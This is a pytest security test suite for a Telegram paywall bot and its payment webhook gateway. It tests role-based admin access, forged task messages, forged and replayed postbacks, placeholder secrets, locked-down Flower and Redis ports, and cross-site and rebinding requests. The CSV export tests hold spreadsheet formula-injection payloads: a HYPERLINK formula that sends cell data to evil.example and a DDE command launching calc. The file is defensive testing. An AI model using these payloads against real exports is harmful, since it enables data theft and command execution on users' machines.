"""The security matrix: one test per row, each door tried the way an attacker or a careless
operator would. The README's "What is protected, and how" lists the same rows.

Rows:
  A. every admin command and admin button, from a non-admin (private chat and group) and from an
     admin in a group, pressed through the bot's real dispatcher; and from each role (an owner
     through ADMIN_IDS, an owner through /role, a manager, support, nobody);
  B. every admin task queued straight onto the broker with a non-admin as the actor, and with
     each granted role as the actor;
  C. forged and replayed postbacks at a gateway configured for production;
  D. each empty or placeholder secret;
  E. each port `make run` exposes, tried without credentials (Flower, the embedded Redis);
  F. CSV cells starting with = + - @ tab or carriage return, in both exports;
  G. cross-site requests to the stand-ins' control APIs.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import shlex
import signal
import socket
import stat
import subprocess
from collections.abc import Iterator
from datetime import UTC, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from aiogram.methods import SendDocument
from aiogram.types import BufferedInputFile
from flask import Flask
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session, sessionmaker

from infra import run, task_names, texts
from infra.embedded_redis import free_port
from infra.migrate import seed_plans
from infra.settings import (
    SANDBOX_BOT_TOKEN,
    SANDBOX_CRYPTOCLOUD_SECRET_KEY,
    SANDBOX_TELEGRAM_API_BASE,
    Settings,
    SettingsError,
    load_settings,
)
from models.domain import roles
from models.schema import (
    AccessHistory,
    CommissionEntry,
    PaymentEvent,
    PayoutRequest,
    Referrer,
    StaffRole,
    User,
)
from tests.bot_frontend.conftest import ADMIN, add_user
from tests.bot_frontend.harness import BotHarness, RecordingProducer
from tests.fixtures import postbacks
from tests.fixtures.processes import ROOT, child_env
from tests.fixtures.waiting import eventually
from tests.workers.harness import Pipeline, make_pipeline
from webhook_gateway import create_app
from workers.context import use_context

ON_SQLITE = pytest.mark.parametrize("migrated_template", ["sqlite"], indirect=True)
ANN, STRANGER, GROUP = 701, 702, -100_555
# Staff granted a role with /role (ADMIN is an owner through ADMIN_IDS).
OWNER, MANAGER, SUPPORT = 711, 712, 713
GRANTED = {OWNER: roles.Role.OWNER, MANAGER: roles.Role.MANAGER, SUPPORT: roles.Role.SUPPORT}
TOKEN = "4242424242:AAF" + "x" * 32
SECRET_KEY = "prod-secret-key-for-postbacks-0123456789"
PRODUCTION: dict[str, Any] = {"bot_token": TOKEN, "channel_id": -1005, "admin_ids": str(ADMIN),
              "cryptocloud_api_key": "prod-api-key", "cryptocloud_shop_id": "PRODSHOP",
              "cryptocloud_secret_key": SECRET_KEY}


# --- A. Admin commands and buttons through the dispatcher ----------------------------------

ADMIN_COMMANDS = [f"/activate {ANN} 30", f"/edit {ANN} remove", "/export",
                  f"/refree_add {ANN} 10", f"/refree_remove {ANN}", "/export_refree",
                  f"/history {ANN}", "/payouts", "/sweep_confirm", "/stats",
                  "/broadcast", "/broadcast_status", "/promo_add SPRING 20%", "/promos",
                  "/promo_off SPRING", "/promo_on SPRING", "/promo_delete SPRING",
                  "/audit", "/audit fix", "/audit fix confirm",
                  f"/role {ANN} support", "/roles", f"/user {ANN}", f"/resend {ANN}",
                  f"/refund {ANN}"]
ADMIN_BUTTONS = ["payout_decide:5:1", "payout_decide:5:0",
                 "bcast_stop:5", "bcast_resume:5"]
# The task an allowed command or button queues (the others are reads the bot answers).
QUEUES = {"activate": task_names.ADMIN_ACTIVATE, "edit": task_names.ADMIN_EDIT,
          "export": task_names.ADMIN_EXPORT_USERS, "refree_add": task_names.ADMIN_ADD_REFERRER,
          "refree_remove": task_names.ADMIN_REMOVE_REFERRER,
          "export_refree": task_names.ADMIN_EXPORT_REFERRERS,
          "sweep_confirm": task_names.CONFIRM_SWEEP_HOLD, "stats": task_names.ADMIN_STATS,
          "promo_add": task_names.ADMIN_PROMO_ADD, "role": task_names.ADMIN_SET_ROLE,
          "resend": task_names.ADMIN_RESEND_INVITE, "payout_decide": task_names.DECIDE_PAYOUT,
          "bcast_stop": task_names.BROADCAST_STOP, "bcast_resume": task_names.BROADCAST_RESUME}


def action_of(text: str) -> str:
    """The name the role table knows a command or button by: /activate 1 2 -> activate."""
    return text.split(maxsplit=1)[0].removeprefix("/").split(":")[0]


@pytest.fixture
def bot(harness: BotHarness, session_factory: sessionmaker[Session]) -> BotHarness:
    """The dispatcher, with ANN known to the bot (so a command would otherwise go through),
    and three staff members granted a role each."""
    add_user(session_factory, ANN)
    now = datetime.now(UTC)
    for member, role in GRANTED.items():
        add_user(session_factory, member)
        with session_factory.begin() as session:
            session.add(StaffRole(user_id=member, role=role.value, granted_by=ADMIN,
                                  granted_at=now))
    return harness


def refused_audit(actor: int, text: str, key: str,
                  role: roles.Role | None = None) -> tuple[str, list[Any]]:
    return (task_names.ADMIN_AUDIT,
            [{"actor_id": actor, "text": text, "request_key": key}, actor, "admin_refused",
             roles.refusal_details(role, action_of(text))])


ACTORS = {"owner-admin-ids": ADMIN, "owner-role": OWNER, "manager": MANAGER,
          "support": SUPPORT, "nobody": STRANGER}


def role_of(actor: int) -> roles.Role | None:
    return roles.Role.OWNER if actor == ADMIN else GRANTED.get(actor)


def refusal_text(actor: int, named: str) -> str:
    role = role_of(actor)
    if role is None:
        return texts.ADMIN_REFUSED
    return texts.role_refused(command=named, needed=roles.least_role(action_of(named)).value,
                              role=role.value)


@ON_SQLITE
@pytest.mark.anyio
@pytest.mark.parametrize("actor", ACTORS.values(), ids=ACTORS.keys())
@pytest.mark.parametrize("text", ADMIN_COMMANDS)
async def test_a_command_goes_through_exactly_for_the_roles_the_table_allows(
        bot: BotHarness, text: str, actor: int) -> None:
    """Each command x each role: allowed -> no refusal (and its task); refused -> the text
    naming the role needed, and only the audit task naming the command and the role."""
    await bot.send(actor, text)
    action = action_of(text)
    if roles.allows(role_of(actor), action):
        assert refusal_text(actor, f"/{action}") not in bot.replies()
        assert all(args[2:3] != ["admin_refused"] for _, args in bot.tasks)
        if action in QUEUES:
            assert QUEUES[action] in [name for name, _ in bot.tasks]
    else:
        assert bot.replies() == [refusal_text(actor, f"/{action}")]
        assert bot.tasks == [refused_audit(actor, text, f"{actor}:1", role_of(actor))]


@ON_SQLITE
@pytest.mark.anyio
@pytest.mark.parametrize("actor", ACTORS.values(), ids=ACTORS.keys())
@pytest.mark.parametrize("data", ADMIN_BUTTONS)
async def test_a_button_goes_through_exactly_for_the_roles_the_table_allows(
        bot: BotHarness, data: str, actor: int) -> None:
    """Each admin button x each role: allowed -> its task; refused -> an alert naming the role
    needed, and only the audit task."""
    query_id = await bot.press(actor, data)
    (answer,) = bot.callback_answers()
    if roles.allows(role_of(actor), action_of(data)):
        assert [name for name, _ in bot.tasks] == [QUEUES[action_of(data)]]
    else:
        assert (answer.text, answer.show_alert) == (refusal_text(actor, action_of(data)), True)
        assert bot.tasks == [refused_audit(actor, data, f"callback:{query_id}", role_of(actor))]


@ON_SQLITE
@pytest.mark.anyio
async def test_the_broadcast_conversation_is_closed_to_support(bot: BotHarness) -> None:
    """A later step of /broadcast (a segment button) is /broadcast's: support is refused it."""
    query_id = await bot.press(SUPPORT, "bcast_seg:all")
    (answer,) = bot.callback_answers()
    assert answer.text == refusal_text(SUPPORT, "broadcast")
    assert bot.tasks == [(task_names.ADMIN_AUDIT, [
        {"actor_id": SUPPORT, "text": "bcast_seg:all", "request_key": f"callback:{query_id}"},
        SUPPORT, "admin_refused", roles.refusal_details(roles.Role.SUPPORT, "broadcast")])]


@ON_SQLITE
@pytest.mark.anyio
@pytest.mark.parametrize("text", ADMIN_COMMANDS)
async def test_a_non_admin_in_private_is_refused_and_audited(bot: BotHarness, text: str) -> None:
    """A stranger's admin command gets "admins only"; the only task is the refusal's audit row."""
    await bot.send(STRANGER, text)
    assert bot.replies() == [texts.ADMIN_REFUSED]
    assert bot.tasks == [refused_audit(STRANGER, text, f"{STRANGER}:1")]


@ON_SQLITE
@pytest.mark.anyio
@pytest.mark.parametrize("user", [STRANGER, ADMIN], ids=["non-admin", "admin"])
@pytest.mark.parametrize("text", ADMIN_COMMANDS)
async def test_an_admin_command_in_a_group_posts_nothing_and_is_audited(
        bot: BotHarness, text: str, user: int) -> None:
    """In a group nobody, not even an admin, gets an answer (no wallets in a group); audited."""
    await bot.send(user, text, group=GROUP)
    assert bot.replies() == []
    assert bot.tasks == [refused_audit(user, text, f"{GROUP}:1", role_of(user))]


@ON_SQLITE
@pytest.mark.anyio
@pytest.mark.parametrize("data", ADMIN_BUTTONS)
async def test_an_admin_button_pressed_by_a_non_admin_is_refused(bot: BotHarness,
                                                                 data: str) -> None:
    """A forwarded approve/reject button pressed by someone else: an alert, and an audit row."""
    query_id = await bot.press(STRANGER, data)
    (answer,) = bot.callback_answers()
    assert (answer.text, answer.show_alert) == (texts.ADMIN_REFUSED, True)
    assert bot.tasks == [refused_audit(STRANGER, data, f"callback:{query_id}")]


@ON_SQLITE
@pytest.mark.anyio
@pytest.mark.parametrize("data", ADMIN_BUTTONS)
async def test_an_admin_button_pressed_in_a_group_is_refused(bot: BotHarness, data: str) -> None:
    """Even an admin's press on a keyboard in a group decides nothing; only they see why."""
    query_id = await bot.press(ADMIN, data, group=GROUP)
    (answer,) = bot.callback_answers()
    assert (answer.text, answer.show_alert) == (texts.ADMIN_PRIVATE_ONLY, True)
    assert bot.replies() == []
    assert bot.tasks == [refused_audit(ADMIN, data, f"callback:{query_id}", roles.Role.OWNER)]


# --- B. Admin tasks queued by someone who is not an admin ----------------------------------

@pytest.fixture
def worker(db_url: str, engine: Engine, session_factory: sessionmaker[Session]
           ) -> Iterator[Pipeline]:
    """The worker's tasks in-process, with ANN a referrer holding an open $5 payout request."""
    now = datetime.now(UTC)
    with session_factory.begin() as session:
        seed_plans(session, load_settings(_env_file=None))
        session.add(User(id=ANN, first_name="Ann", created_at=now, terms_accepted_at=now))
        session.flush()
        session.add(Referrer(user_id=ANN, pct=Decimal(10), created_at=now, updated_at=now))
        session.flush()
        session.add(PayoutRequest(referrer_id=ANN, amount=Decimal("5.00"), network="ERC20",
                                  wallet="0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
                                  status="open", created_at=now))
    pipeline = make_pipeline(db_url=db_url, sessions=session_factory, engine=engine,
                             admin_ids=str(ADMIN))
    with use_context(pipeline):
        yield pipeline


def forged(text: str) -> dict[str, Any]:
    return {"actor_id": STRANGER, "text": text, "request_key": f"forged:{text}"}


FORGED_TASKS: list[tuple[str, tuple[Any, ...]]] = [
    (task_names.ADMIN_ACTIVATE, (forged("/activate"), ANN, 365)),
    (task_names.ADMIN_EDIT, (forged("/edit remove"), ANN, "remove", None)),
    (task_names.ADMIN_EDIT, (forged("/edit setdays"), ANN, "setdays", 365)),
    (task_names.ADMIN_EDIT, (forged("/edit resettrial"), ANN, "resettrial", None)),
    (task_names.ADMIN_ADD_REFERRER, (forged("/refree_add"), STRANGER, "90")),
    (task_names.ADMIN_REMOVE_REFERRER, (forged("/refree_remove"), ANN)),
    (task_names.ADMIN_EXPORT_USERS, (forged("/export"),)),
    (task_names.ADMIN_EXPORT_REFERRERS, (forged("/export_refree"),)),
    (task_names.DECIDE_PAYOUT, (1, True, STRANGER, "payout_decide:1:1")),
    (task_names.CONFIRM_SWEEP_HOLD, (STRANGER,)),
    (task_names.ADMIN_STATS, (forged("/stats"), None)),
    (task_names.BROADCAST_START, (forged("/broadcast"), {
        "segment": "all", "days": None, "text": "Hi", "photo": None, "buttons": []})),
    (task_names.BROADCAST_STOP, (forged("bcast_stop:1"), 1)),
    (task_names.BROADCAST_RESUME, (forged("bcast_resume:1"), 1)),
    (task_names.ADMIN_PROMO_ADD, (forged("/promo_add"), "SPRING 20%")),
    (task_names.ADMIN_PROMO_SET_ACTIVE, (forged("/promo_off"), "SPRING", False)),
    (task_names.ADMIN_PROMO_DELETE, (forged("/promo_delete"), "SPRING")),
    (task_names.AUDIT_START, (forged("/audit"),)),
    (task_names.AUDIT_FIX, (forged("/audit fix confirm"), True)),
    (task_names.ADMIN_SET_ROLE, (forged("/role"), ANN, "owner")),
    (task_names.ADMIN_RESEND_INVITE, (forged("/resend"), ANN)),
    (task_names.ADMIN_STARS_REFUND, (forged("/refund"), ANN)),
]


@ON_SQLITE
@pytest.mark.parametrize(("name", "args"), FORGED_TASKS,
                         ids=[f"{name}-{i}" for i, (name, _) in enumerate(FORGED_TASKS)])
def test_an_admin_task_from_a_non_admin_changes_nothing_and_is_recorded(
        worker: Pipeline, name: str, args: tuple[Any, ...]) -> None:
    """Whatever can publish to the broker is not an admin: the task re-checks and refuses."""
    worker.send(name, *args)
    worker.drain()
    with worker.sessions() as session:
        history = [(row.action, row.actor_id) for row in session.scalars(select(AccessHistory))]
        referrer = session.get_one(Referrer, ANN)
        payout = session.scalars(select(PayoutRequest)).one()
        debits = session.scalars(select(CommissionEntry)).all()
    assert history == [("admin_refused", STRANGER)]
    assert worker.telegram.calls == []
    assert (referrer.active, referrer.pct, payout.status) == (True, Decimal(10), "open")
    assert list(debits) == []


def as_actor(name: str, args: tuple[Any, ...], actor: int) -> tuple[Any, ...]:
    """A forged task's arguments with `actor` where STRANGER acted (the command, or the id)."""
    if name == task_names.DECIDE_PAYOUT:
        return (*args[:2], actor, *args[3:])
    if name == task_names.CONFIRM_SWEEP_HOLD:
        return (actor,)
    return ({**args[0], "actor_id": actor}, *args[1:])


def forged_action(name: str, args: tuple[Any, ...]) -> str:
    """The command or button a forged task stands for, as the role table names it."""
    if name == task_names.CONFIRM_SWEEP_HOLD:
        return "sweep_confirm"
    text = args[3] if name == task_names.DECIDE_PAYOUT else args[0]["text"]
    return action_of(text)


@pytest.fixture
def staffed(worker: Pipeline) -> Pipeline:
    """The worker of row B with three staff members, each granted a role (and STRANGER known,
    whom /refree_add names)."""
    now = datetime.now(UTC)
    with worker.sessions.begin() as session:
        for user_id in (*GRANTED, STRANGER):
            session.add(User(id=user_id, first_name="Staff", created_at=now,
                             terms_accepted_at=now))
        session.flush()
        for member, role in GRANTED.items():
            session.add(StaffRole(user_id=member, role=role.value, granted_by=ADMIN,
                                  granted_at=now))
    return worker


@ON_SQLITE
@pytest.mark.parametrize("actor", GRANTED, ids=[role.value for role in GRANTED.values()])
@pytest.mark.parametrize(("name", "args"), FORGED_TASKS,
                         ids=[f"{name}-{i}" for i, (name, _) in enumerate(FORGED_TASKS)])
def test_an_admin_task_runs_exactly_for_the_roles_the_table_allows(
        staffed: Pipeline, name: str, args: tuple[Any, ...], actor: int) -> None:
    """Forged tasks x granted roles at the worker: the same table as the bot's decides; a
    refused task changes nothing and records the refusal naming the command and the role."""
    action = forged_action(name, args)
    staffed.send(name, *as_actor(name, args, actor))
    staffed.drain()
    with staffed.sessions() as session:
        refusals = [(row.actor_id, row.details) for row in session.scalars(
            select(AccessHistory).where(AccessHistory.action == "admin_refused"))]
        payout = session.scalars(select(PayoutRequest)).one()
        ann_role = session.get(StaffRole, ANN)
    if roles.allows(GRANTED[actor], action):
        assert refusals == []
    else:
        details = roles.refusal_details(GRANTED[actor], action)
        assert refusals == [(actor, json.dumps(details, sort_keys=True))]
        assert staffed.telegram.calls == []
        assert (payout.status, ann_role) == ("open", None)


# --- C. Forged and replayed postbacks at a production gateway -------------------------------

FORM = {"Content-Type": "application/x-www-form-urlencoded"}


@pytest.fixture
def gateway(db_url: str) -> Iterator[Flask]:
    """The gateway with production credentials, on a fresh database, recording what it queues."""
    settings = load_settings(_env_file=None, database_url=db_url,
                             redis_url="redis://127.0.0.1:1/0", **PRODUCTION)
    app = create_app({"settings": settings, "TESTING": True})
    app.extensions["gateway"]["celery"] = RecordingProducer()
    yield app
    app.extensions["gateway"]["engine"].dispose()


def post(app: Flask, token: str) -> int:
    body = postbacks.form_body(postbacks.fields("AB12CD34", tok=token))
    return app.test_client().post("/cryptocloud_webhook", data=body, headers=FORM).status_code


@ON_SQLITE
@pytest.mark.parametrize("mint", [
    lambda: postbacks.token("AB12CD34", key=SANDBOX_CRYPTOCLOUD_SECRET_KEY),
    lambda: postbacks.token("AB12CD34", key="an attacker's own key of forty characters"),
    lambda: postbacks.unsigned_token("AB12CD34"),
    lambda: postbacks.token("AB12CD34", key=SECRET_KEY, exp_in=-600),
], ids=["public-sandbox-key", "attackers-key", "alg-none", "expired"])
def test_a_forged_postback_is_refused_and_queues_nothing(gateway: Flask, mint: Any) -> None:
    """Signed with the public sandbox key, any other key, no key, or expired: 401, no work."""
    assert post(gateway, mint()) == 401
    assert gateway.extensions["gateway"]["celery"].sent == []


@ON_SQLITE
def test_a_replayed_postback_is_stored_once(gateway: Flask) -> None:
    """A genuine postback replayed: one inbox row, and every queued job names that same row
    (the worker activates once per invoice: tests/workers/payments pin that)."""
    genuine = postbacks.token("AB12CD34", key=SECRET_KEY)
    assert [post(gateway, genuine) for _ in range(3)] == [200, 200, 200]
    with gateway.extensions["gateway"]["sessions"]() as session:
        (event_id,) = session.scalars(select(PaymentEvent.id)).all()
    assert {tuple(args) for _, args in gateway.extensions["gateway"]["celery"].sent} == {
        (event_id,)}


# --- D. Empty and placeholder secrets -------------------------------------------------------

def production_with(**changes: Any) -> Settings:
    return load_settings(_env_file=None, **{**PRODUCTION, **changes})


@pytest.mark.parametrize("name", ["cryptocloud_api_key", "cryptocloud_shop_id",
                                  "cryptocloud_secret_key"])
def test_an_empty_cryptocloud_credential_is_refused_never_replaced(name: str) -> None:
    """Two credentials and an empty third stop the process: no sandbox key fills the gap."""
    with pytest.raises(SettingsError, match=name.upper()):
        production_with(**{name: ""})


def test_an_empty_bot_token_is_the_whole_telegram_side_in_sandbox() -> None:
    """BOT_TOKEN= means no bot: the stand-in is used, never api.telegram.org with a fake token."""
    settings = production_with(bot_token="", allow_payment_sandbox=True)
    assert settings.telegram_sandbox and settings.telegram_base == SANDBOX_TELEGRAM_API_BASE
    assert settings.telegram_token.get_secret_value() == SANDBOX_BOT_TOKEN


def test_an_empty_webhook_secret_is_refused() -> None:
    """Bot webhook mode without its secret header check would take updates from anyone."""
    with pytest.raises(SettingsError, match="BOT_WEBHOOK_SECRET"):
        production_with(bot_webhook_url="https://hooks.example.com/telegram/x",
                        bot_webhook_secret="")


def test_an_empty_flower_login_gets_a_generated_one(tmp_path: Path,
                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """FLOWER_BASIC_AUTH= gives Flower a generated login kept in a 0600 file, never none."""
    monkeypatch.setattr(run, "VAR", tmp_path)
    login = run.flower_auth(production_with(flower_basic_auth=""))
    user, _, password = login.partition(":")
    assert user and len(password) >= 32
    assert stat.S_IMODE((tmp_path / run.FLOWER_AUTH_FILE).stat().st_mode) == 0o600


@pytest.mark.parametrize(("env", "message"), [
    ({"CRYPTOCLOUD_SECRET_KEY": "CHANGE_ME"}, "CRYPTOCLOUD_SECRET_KEY: is a placeholder"),
    ({"FLOWER_BASIC_AUTH": "admin:change_me"}, "FLOWER_BASIC_AUTH: is a placeholder"),
    ({"BOT_WEBHOOK_SECRET": "CHANGE_ME"}, "BOT_WEBHOOK_SECRET: is a placeholder"),
    ({"DATABASE_URL": "postgresql://paywall:CHANGE_ME@db/paywall"},
     "DATABASE_URL: is a placeholder"),
    ({"REDIS_URL": "redis://:CHANGE_ME@127.0.0.1:6379/0"}, "REDIS_URL: is a placeholder"),
    ({"ADMIN_IDS": "111111111,222222222"}, "ADMIN_IDS: 111111111 is the example"),
    ({"CHANNEL_ID": "-1001234567890"}, "CHANNEL_ID: -1001234567890 is the example"),
    ({"BOT_TOKEN": "123456:ABC-DEF1234ghIkl-zyx57W2v1u123ew11"}, "BOT_TOKEN: is the example"),
    ({"BOT_TOKEN": "garbage"}, "BOT_TOKEN: not a bot token from @BotFather"),
], ids=lambda value: next(iter(value)) if isinstance(value, dict) else "")
def test_a_placeholder_or_malformed_secret_is_refused(
    monkeypatch: pytest.MonkeyPatch, env: dict[str, str], message: str
) -> None:
    """A placeholder or malformed secret stops the process, naming the variable, not the value."""
    ((name, value),) = env.items()
    monkeypatch.setenv(name, value)
    with pytest.raises(SettingsError) as refused:
        load_settings(_env_file=None)
    assert str(refused.value).startswith(message)
    if name not in ("ADMIN_IDS", "CHANNEL_ID"):  # ids are no secret; the rest is never echoed
        assert value not in str(refused.value)


# --- E. Ports make run exposes ----------------------------------------------------------------

def command_line(pid: int) -> str:
    return Path(f"/proc/{pid}/cmdline").read_bytes().replace(b"\0", b" ").decode()


def test_the_embedded_redis_refuses_a_client_without_the_password(tmp_path: Path) -> None:
    """`make run`'s Redis wants the password kept in var/; `ps` never shows it."""
    settings = load_settings(_env_file=None, embedded_redis_port=free_port(),
                             embedded_redis_dir=str(tmp_path / "redis"))
    server = run.embedded_redis(settings)
    url = server.start()
    try:
        password = (tmp_path / "redis" / "password").read_text()
        assert url == f"redis://:{password}@127.0.0.1:{settings.embedded_redis_port}/0"
        assert settings.broker_url == url  # what an operator's celery CLI finds
        with socket.create_connection(("127.0.0.1", settings.embedded_redis_port)) as conn:
            conn.sendall(b"KEYS *\r\n")
            assert conn.recv(64).startswith(b"-NOAUTH")
        assert server._process is not None
        assert password not in command_line(server._process.pid)
        for private in ("password", "auth.conf"):
            assert stat.S_IMODE((tmp_path / "redis" / private).stat().st_mode) == 0o600
    finally:
        server.stop()


def procfile_command(name: str) -> str:
    lines = (ROOT / "Procfile").read_text().splitlines()
    return next(line.partition(": ")[2] for line in lines if line.startswith(f"{name}:"))


@pytest.fixture
def flower(redis_url: str, tmp_path: Path) -> Iterator[tuple[str, int]]:
    """Flower started by the Procfile's own line with a login; its URL and its shell's pid."""
    port = free_port()
    env = child_env(REDIS_URL=redis_url, FLOWER_PORT=str(port),
                    FLOWER_BASIC_AUTH="ops:flower-password-0042")
    log = tmp_path / "flower.log"
    with log.open("wb") as output:
        process = subprocess.Popen(["/bin/sh", "-c", procfile_command("flower")], cwd=ROOT,
                                   env=env, stdout=output, stderr=subprocess.STDOUT,
                                   start_new_session=True)
    base = f"http://127.0.0.1:{port}"
    try:
        def answers() -> bool:
            assert process.poll() is None, log.read_text()
            try:
                return httpx.get(f"{base}/healthcheck", timeout=1).status_code == 200
            except httpx.HTTPError:
                return False
        eventually(answers, timeout=60, what="Flower to answer")
        yield base, process.pid
    finally:
        os.killpg(process.pid, signal.SIGTERM)
        process.wait(timeout=30)


def basic(credentials: bytes) -> dict[str, str]:
    return {"Authorization": "Basic " + base64.b64encode(credentials).decode()}


def test_flower_wants_its_login_and_keeps_it_out_of_ps(flower: tuple[str, int]) -> None:
    """No login, an empty one (`Basic !`), a wrong one: 401 on the pages and the task API."""
    base, pid = flower
    for path in ("/", "/api/tasks", "/api/task/async-apply/admin.export_users"):
        for headers in ({}, {"Authorization": "Basic !"}, basic(b":"), basic(b"ops:wrong")):
            method = "POST" if "apply" in path else "GET"
            assert httpx.request(method, base + path, headers=headers).status_code == 401
    assert httpx.get(base + "/", headers=basic(b"ops:flower-password-0042")).status_code == 200
    shown = " ".join(command_line(int(p)) for p in os.listdir("/proc")
                     if p.isdigit() and os.path.exists(f"/proc/{p}/cmdline")
                     and _in_group(int(p), pid))
    assert "celery_app flower" in shown and "flower-password-0042" not in shown


def _in_group(pid: int, group: int) -> bool:
    try:
        return os.getpgid(pid) == group
    except ProcessLookupError:
        return False


@pytest.mark.parametrize("login", ["", ":", "admin:"])
def test_flower_does_not_start_without_a_login(login: str) -> None:
    """The Procfile's flower line refuses to start Flower with no user or no password."""
    env = child_env(FLOWER_BASIC_AUTH=login, FLOWER_PORT=str(free_port()))
    result = subprocess.run(["/bin/sh", "-c", procfile_command("flower")], cwd=ROOT, env=env,
                            capture_output=True, text=True, timeout=60, check=False)
    assert result.returncode == 1
    assert "FLOWER_BASIC_AUTH" in result.stderr


def test_compose_refuses_flower_without_a_login_and_keeps_passwords_off_argv() -> None:
    """Compose's `:?` stops `up` without FLOWER_BASIC_AUTH; Redis's password is not on argv."""
    compose = yaml.safe_load((ROOT / "infra/deploy/docker-compose.yml").read_text())
    flower_env = compose["services"]["flower"]["environment"]
    assert flower_env["FLOWER_BASIC_AUTH"].startswith("${FLOWER_BASIC_AUTH:?")
    redis_command = " ".join(compose["services"]["redis"]["command"])
    assert "--requirepass" not in redis_command and "paywall-password.conf" in redis_command
    health = " ".join(compose["services"]["redis"]["healthcheck"]["test"])
    assert " -a " not in health and "REDISCLI_AUTH=" in health
    assert "--basic-auth" not in shlex.join(compose["services"]["flower"]["command"])


# --- F. Formula cells in the CSV exports ----------------------------------------------------

TRIGGERS = ["=", "+", "-", "@", "\t", "\r"]


def exported(worker: Pipeline, task: str) -> list[dict[str, str]]:
    worker.send(task, {"actor_id": ADMIN, "text": "/export", "request_key": task})
    worker.drain()
    (call,) = worker.telegram.calls_of("sendDocument")
    assert isinstance(call, SendDocument) and isinstance(call.document, BufferedInputFile)
    return list(csv.DictReader(io.StringIO(call.document.data.decode(), newline="")))


@ON_SQLITE
@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_formula_in_a_users_name_is_exported_as_text(worker: Pipeline, trigger: str) -> None:
    """/export: a first name starting a formula gets a leading ' (text), the rest unchanged."""
    name = f'{trigger}HYPERLINK("http://evil.example/?"&A1)'
    with worker.sessions.begin() as session:
        session.get_one(User, ANN).first_name = name
    (row,) = exported(worker, task_names.ADMIN_EXPORT_USERS)
    assert row["first_name"] == "'" + name


@ON_SQLITE
@pytest.mark.parametrize("trigger", TRIGGERS, ids=["eq", "plus", "minus", "at", "tab", "cr"])
def test_a_formula_in_a_referrers_username_is_exported_as_text(worker: Pipeline,
                                                               trigger: str) -> None:
    """/export_refree: a username starting a formula gets a leading ' as well."""
    name = f"{trigger}SUM(1+1)*cmd|' /C calc'!A0"
    with worker.sessions.begin() as session:
        session.get_one(User, ANN).username = name
    (row,) = exported(worker, task_names.ADMIN_EXPORT_REFERRERS)
    assert row["username"] == "'" + name
    assert row["balance_usd"] == "0.00"  # numbers stay numbers


# --- G. Cross-site requests to the stand-ins' control APIs ----------------------------------

def _stand_in(request: pytest.FixtureRequest, which: str) -> str:
    sandbox = request.getfixturevalue(f"{which}_sandbox")
    return str(sandbox.base_url)


@pytest.mark.parametrize("which", ["telegram", "cryptocloud"])
@pytest.mark.parametrize(("headers", "status"), [
    ({"Origin": "https://evil.example", "Content-Type": "application/json"}, 403),
    ({"Origin": "null", "Content-Type": "application/json"}, 403),
    ({"Content-Type": "text/plain"}, 415),
    ({"Content-Type": "application/x-www-form-urlencoded"}, 415),
], ids=["foreign-origin", "null-origin", "text-plain", "form"])
def test_a_cross_site_request_to_a_control_api_is_refused(
        request: pytest.FixtureRequest, which: str, headers: dict[str, str], status: int) -> None:
    """What a page on another site can send (a form, a no-preflight fetch) changes nothing."""
    base = _stand_in(request, which)
    answer = httpx.post(f"{base}/control/reset", content=b"{}", headers=headers)
    assert answer.status_code == status
    assert answer.json()["ok"] is False


@pytest.mark.parametrize("which", ["telegram", "cryptocloud"])
def test_a_rebound_host_name_is_refused_and_the_own_page_is_served(
        request: pytest.FixtureRequest, which: str) -> None:
    """DNS rebinding (a foreign name for 127.0.0.1) is refused; the page's own origin is not."""
    base = _stand_in(request, which)
    port = base.rpartition(":")[2]
    rebound = httpx.post(f"{base}/control/reset", json={},
                         headers={"Host": f"evil.example:{port}",
                                  "Origin": f"http://evil.example:{port}"})
    assert rebound.status_code == 403
    own = httpx.post(f"{base}/control/reset", json={}, headers={"Origin": base})
    assert own.status_code == 200


def test_a_cross_site_request_leaves_the_world_as_it_was(telegram_sandbox: Any) -> None:
    """A refused reset really did nothing: the person created before is still there."""
    base = telegram_sandbox.base_url
    httpx.post(f"{base}/control/users", json={"first_name": "Ann", "id": 4242}).raise_for_status()
    httpx.post(f"{base}/control/reset", json={}, headers={"Origin": "https://evil.example"})
    users = httpx.get(f"{base}/control/users").json()["result"]
    assert [user["id"] for user in users if user["id"] == 4242] == [4242]

